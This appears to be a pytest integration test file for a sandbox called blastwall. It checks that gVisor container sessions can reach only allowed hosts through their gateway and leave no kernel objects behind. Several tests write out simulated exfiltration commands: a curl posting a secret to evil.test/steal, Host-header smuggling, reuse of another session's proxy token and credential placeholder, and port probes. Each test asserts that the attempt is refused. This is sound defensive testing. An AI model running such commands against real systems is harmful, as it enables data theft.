"""Container sessions' network, attacked: real runsc, real nftables, the real gateway, upstreams on loopback.

Each session has its own namespace whose only reachable addresses are its
gateway listeners.  Every test checks the host side: what the upstream or a
host listener received, and that no namespace, interface, table, slot,
cgroup or directory is left.
"""

from __future__ import annotations

import os
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import textwrap
import threading
import time

import pytest

from tests.conftest import SECRET, blastwall
from tests.egress.upstreams import Upstream

RUNSC = shutil.which("runsc", path="/usr/bin:/usr/local/bin:/usr/sbin")
pytestmark = [
    pytest.mark.skipif(RUNSC is None, reason="gVisor's runsc is not installed"),
    pytest.mark.skipif(os.geteuid() != 0, reason="the container tier needs root on this machine"),
    pytest.mark.skipif(shutil.which("nft", path="/usr/sbin:/sbin") is None, reason="nftables is not installed"),
    pytest.mark.skipif(shutil.which("mmdebstrap") is None, reason="mmdebstrap is not installed"),
]
NAMES = ("api.test", "other.test", "evil.test")
UNPROXIED = "env -u HTTP_PROXY -u http_proxy -u HTTPS_PROXY -u https_proxy -u ALL_PROXY -u all_proxy"


def _policy(allow=("api.test",), address="127.0.0.1") -> dict:
    return {"network": {"allow": list(allow), "resolve": {n: address for n in NAMES},
                        "trusted_addresses": [f"{address}/32"]},
            "sandbox": {"tier": "container"}}


@pytest.fixture
def env(home, image_cache, gw_state):
    return {"HOME": str(home), "XDG_CACHE_HOME": str(image_cache), "XDG_STATE_HOME": str(gw_state),
            "XDG_CONFIG_HOME": str(home / ".config"), "PATH": os.environ["PATH"], "BLASTWALL_GATEWAY_IDLE": "30"}


def _state(env) -> str:
    return os.path.join(env["XDG_STATE_HOME"], "blastwall", "containers")


def _session(env, workspace, policy):
    from blastwall import api
    from blastwall.policy.model import parse_layer
    from blastwall.tiers.container.session import ContainerSession

    os.chown(workspace, 1000, 1000)
    pol = api.load(None, flags=parse_layer(policy, "test"), workspace=str(workspace), environ=env)
    plan = api.plan_for(pol, workspace=str(workspace), cwd=str(workspace), environ=env)
    session = ContainerSession(plan, environ=env, workspace=str(workspace))
    session.boot()
    return session


def _exec(session, script: str, timeout: float = 60) -> tuple[int, str]:
    with tempfile.TemporaryFile() as out:
        # O_APPEND: gVisor keeps its own offset per donated descriptor, so a shared
        # file for stdout and stderr would be overwritten without it.
        fd = os.open(f"/proc/self/fd/{out.fileno()}", os.O_WRONLY | os.O_APPEND)
        devnull = os.open(os.devnull, os.O_RDONLY)
        try:
            process = session.exec(["sh", "-c", script], stdin=devnull, stdout=fd, stderr=fd)
        finally:
            os.close(devnull)
            os.close(fd)
        timer = threading.Timer(timeout, process.kill)
        timer.start()
        try:
            status = process.wait()
        finally:
            timer.cancel()
            process.release()
        out.seek(0)
        return status, out.read().decode("utf-8", "replace")


def _kernel_objects() -> str:
    out = subprocess.run("ip netns list; ip -o link show; nft list tables", shell=True, capture_output=True,
                         text=True, env={"PATH": "/usr/sbin:/usr/bin:/sbin:/bin"}).stdout
    return "\n".join(line for line in out.splitlines() if "bw-" in line or "bwh" in line or "bw_" in line)


def _assert_gone(session_id: str, env) -> None:
    name = session_id.rsplit("-", 1)[-1]
    assert name not in _kernel_objects()
    assert not os.path.exists(os.path.join(_state(env), session_id))
    from blastwall.tiers.container._raw_net import SLOTS_DIR

    owners = [open(os.path.join(SLOTS_DIR, f)).read() for f in os.listdir(SLOTS_DIR)]
    assert not [o for o in owners if o.endswith(session_id)]
    for top in ("memory", "pids", "cpu"):
        assert not os.path.exists(f"/sys/fs/cgroup/{top}/blastwall/{session_id}")
    with open("/proc/self/mountinfo") as f:
        assert name not in f.read()  # No mount (netns bind mount, runsc's) is left either.
    ps = subprocess.run(["ps", "-eo", "args"], capture_output=True, text=True).stdout
    assert session_id not in ps  # Nor any runsc, gofer or sandbox process.


class Listener:
    """A host TCP listener on every address; counts what reaches it."""

    def __init__(self) -> None:
        self.sock = socket.socket()
        self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.sock.bind(("0.0.0.0", 0))
        self.sock.listen(64)
        self.port = self.sock.getsockname()[1]
        self.hits = 0
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.hits += 1
            conn.close()

    def close(self) -> None:
        self.sock.close()


def test_proxy_clients_reach_allowed_hosts_only(home, workspace, scratch, env):
    up = Upstream(str(scratch))
    shutil.copy(up.ca, workspace / "ca.pem")
    session = _session(env, workspace, _policy())
    try:
        status, out = _exec(session, textwrap.dedent(f"""
            curl -sS -m 10 http://api.test:{up.http_port}/hello
            curl -sS -m 10 --cacert ca.pem https://api.test:{up.https_port}/hello
            curl -sS -m 10 -X POST -d '{SECRET}' http://evil.test:{up.http_port}/steal; echo
            curl -sS -m 10 --cacert ca.pem https://evil.test:{up.https_port}/steal; echo rc=$?
            python3 -c 'import urllib.request; print(urllib.request.urlopen("http://api.test:{up.http_port}/hello").read())'
        """))
    finally:
        session.close()
        up.close()
    assert out.count("hello from upstream") == 3, out
    assert "refused POST evil.test" in out and "rc=56" in out
    assert [r[1] for r in up.requests] == ["/hello"] * 3  # Nothing of the refused requests arrived.
    _assert_gone(session.id, env)


def test_transparent_redirection_decides_by_sni_and_host(home, workspace, scratch, env):
    """Tools that ignore proxy variables: DNS answers the gateway, ports 80/443 are redirected to it."""
    address = "127.0.0.3"
    try:
        up = Upstream(str(scratch), host=address, ports=(80, 443))
    except OSError as exc:
        pytest.skip(reason=f"can't listen on {address}:80/443 for the upstream: {exc}")
    shutil.copy(up.ca, workspace / "ca.pem")
    session = _session(env, workspace, _policy(address=address))
    try:
        status, out = _exec(session, textwrap.dedent(f"""
            {UNPROXIED} curl -sS -m 10 http://api.test/hello
            {UNPROXIED} curl -sS -m 10 --cacert ca.pem https://api.test/hello
            {UNPROXIED} curl -sS -m 10 -d '{SECRET}' http://evil.test/steal; echo
            {UNPROXIED} curl -sS -m 10 --cacert ca.pem https://evil.test/steal; echo evil-tls-rc=$?
            {UNPROXIED} curl -sS -m 10 -k -H 'Host: api.test' https://192.0.2.1/nosni; echo nosni-rc=$?
            {UNPROXIED} curl -sS -m 10 -H 'Host: api.test' http://192.0.2.1/byhost; echo
            {UNPROXIED} curl -sS -m 10 http://192.0.2.1:8080/otherport; echo otherport-rc=$?
            {UNPROXIED} curl -sS -m 10 -H 'Host: evil.test' http://api.test/smuggle; echo
            python3 -c 'import socket; print("resolved", socket.gethostbyname("anything.invalid"))'
        """))
    finally:
        session.close()
        up.close()
    log = os.path.join(env["XDG_STATE_HOME"], "blastwall", "gateway", "gateway.log")
    # An address literal is ignored for port 80 (the Host header decides: /byhost is served), TLS
    # without SNI is refused, any other port is not redirected and has no route out.
    assert out.count("hello from upstream") == 3, out + open(log).read()[-3000:]
    assert "refused POST evil.test:80" in out, out
    assert "evil-tls-rc=0" not in out and "nosni-rc=0" not in out and "otherport-rc=0" not in out
    assert "resolved 10.201." in out  # Every name is the gateway; no query left the host.
    assert [r[1] for r in up.requests] == ["/hello", "/hello", "/byhost"], up.requests


def test_sessions_cannot_reach_the_host_or_each_other(home, workspace, scratch, env):
    listener = Listener()
    other_ws = scratch / "other-ws"
    other_ws.mkdir()
    a = _session(env, workspace, _policy())
    b = _session(env, other_ws, _policy())
    try:
        server_log = open(scratch / "b-server.log", "w+b")
        server = b.exec(["python3", "-m", "http.server", "8000"], stdin=0, stdout=server_log.fileno(),
                        stderr=server_log.fileno())
        time.sleep(1.0)
        a_net, b_net = a._net, b._net
        b_ports = b._gateway.tcp_ports
        targets = [(a_net.host_ip, listener.port), (b_net.host_ip, listener.port), (b_net.host_ip, b_ports["http"]),
                   (b_net.guest_ip, 8000), ("10.0.2.2", listener.port), ("127.0.0.1", listener.port)]
        probe = "; ".join(
            f"python3 -c 'import socket,sys\ntry:\n socket.create_connection((\"{h}\",{p}),timeout=2); print(\"OPEN {h}:{p}\")\n"
            f"except OSError as e: print(\"closed {h}:{p}\", e)'" for h, p in targets)
        token_b = b._gateway.token
        steal = (f"curl -sS -m 5 -o /dev/null -w 'stolen-token %{{http_code}}\\n' "
                 f"-x http://blastwall:{token_b}@{a_net.host_ip}:{a._gateway.tcp_ports['http']} http://api.test:1/")
        status, out = _exec(a, probe + "; " + steal)
        # B's own server works from inside B (so a refusal above is the boundary, not a dead server).
        _, inside_b = _exec(b, "python3 -c 'import urllib.request; print(urllib.request.urlopen(\"http://127.0.0.1:8000/\").status)'")
        server.kill()
    finally:
        a.close()
        b.close()
        listener.close()
        server_log.close()
    assert "OPEN" not in out, out
    assert out.count("closed ") == len(targets), out
    assert "stolen-token 407" in out, out  # Another session's token is worth nothing at this session's gateway.
    assert listener.hits == 0
    assert "200" in inside_b
    log = (scratch / "b-server.log").read_bytes()
    assert b"GET" not in log.replace(b"GET / HTTP/1.1\" 200", b"")  # Only B's own request.
    _assert_gone(a.id, env)
    _assert_gone(b.id, env)


def test_reaper_removes_a_crashed_owners_session(home, workspace, scratch, env):
    script = textwrap.dedent(f"""
        import os, sys
        sys.path.insert(0, {os.getcwd()!r})
        from tests.tiers.container.test_network import _session
        s = _session({env!r}, {str(workspace)!r}, {_policy()!r})
        print(s.id, flush=True)
        os.kill(os.getpid(), 9)
    """)
    r = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=120, env=env)
    assert r.returncode == -signal.SIGKILL, r.stderr[-2000:]
    session_id = r.stdout.split()[0]
    name = session_id.rsplit("-", 1)[-1]
    assert name in _kernel_objects()  # The crash left it all behind...
    from blastwall.tiers.container.session import ContainerSession

    ContainerSession.recover(environ=env)
    _assert_gone(session_id, env)  # ...and the reaper removed all of it.
    ps = subprocess.run(["ps", "-eo", "args"], capture_output=True, text=True).stdout
    assert session_id not in ps


def test_one_shot_run_with_network(home, workspace, scratch, image_cache, gw_state):
    up = Upstream(str(scratch))
    policy = scratch / "policy.toml"
    names = ", ".join(f'"{n}" = "127.0.0.1"' for n in NAMES)
    policy.write_text(f'[network]\nallow = ["api.test"]\nresolve = {{ {names} }}\n'
                      'trusted_addresses = ["127.0.0.1/32"]\n')
    try:
        r = blastwall(["run", "--tier", "container", "--policy", str(policy), "--", "sh", "-c",
                       f"curl -sS -m 10 http://api.test:{up.http_port}/hello; "
                       f"curl -sS -m 10 http://evil.test:{up.http_port}/x; exit 3"],
                      home=home, cwd=workspace, timeout=120,
                      env={"XDG_CACHE_HOME": str(image_cache), "XDG_STATE_HOME": str(gw_state)})
    finally:
        up.close()
    assert r.returncode == 3, r.stderr
    assert "hello from upstream" in r.stdout and "refused GET evil.test" in r.stdout
    assert [q[1] for q in up.requests] == ["/hello"]
    state = os.path.join(gw_state, "blastwall", "containers")
    assert not [d for d in os.listdir(state) if d.startswith("blastwall-")]


def test_another_sessions_credential_is_worthless(home, workspace, scratch, env):
    """B's gateway swaps B's placeholder for the real key; A, given B's placeholder, sends only a string."""
    from tests.egress.upstreams import AsgiUpstream

    real_key = "sk-real-0123456789abcdef0123456789abcdef"
    api = AsgiUpstream(str(scratch), names=("api.test",))
    network = {"resolve": {"api.test": "127.0.0.1"}, "trusted_addresses": ["127.0.0.1/32"], "upstream_ca": api.ca,
               "rules": [{"host": "api.test", "paths": ["/**"]}]}
    with_key = {"sandbox": {"tier": "container"},
                "network": dict(network, rules=[{"host": "api.test", "paths": ["/**"], "credential": "API_KEY"}]),
                "credentials": {"API_KEY": {"from": "env:API_KEY", "hosts": ["api.test"], "header": "x-api-key"}}}
    b_ws = scratch / "b-ws"
    b_ws.mkdir()
    b = _session(dict(env, API_KEY=real_key), b_ws, with_key)
    a = _session(env, workspace, {"sandbox": {"tier": "container"}, "network": network})
    try:
        stolen = b.egress_env["API_KEY"]
        assert stolen != real_key and len(stolen) == len(real_key)
        url = f"https://api.test:{api.port}/echo-key"
        _, by_b = _exec(b, f'curl -sS -m 10 -H "x-api-key: $API_KEY" {url}')
        _, by_a = _exec(a, f"curl -sS -m 10 -H 'x-api-key: {stolen}' {url}")
    finally:
        a.close()
        b.close()
        api.close()
    keys = [req[2].get("x-api-key") for req in api.requests]
    assert keys == [real_key, stolen], (keys, by_a, by_b)  # A's request carried B's placeholder, not B's key.
    assert real_key not in by_a and real_key not in by_b  # Echoes come back scrubbed.


def test_missing_nftables_refuses_the_session_and_leaves_nothing(home, workspace, env, monkeypatch):
    """No firewall, no network: the session is refused with a fix, never started without one."""
    from blastwall.errors import EnforcementError
    from blastwall.tiers.container import _raw_net

    monkeypatch.setattr(_raw_net, "NFT_CANDIDATES", (str(workspace / "no-such-nft"),))
    with pytest.raises(EnforcementError) as refused:
        _session(env, workspace, _policy())
    assert "nftables" in str(refused.value)
    assert not [d for d in os.listdir(_state(env)) if d.startswith("blastwall-")]
    assert not [f for f in os.listdir(_raw_net.SLOTS_DIR)
                if open(os.path.join(_raw_net.SLOTS_DIR, f)).read().startswith(_state(env))]
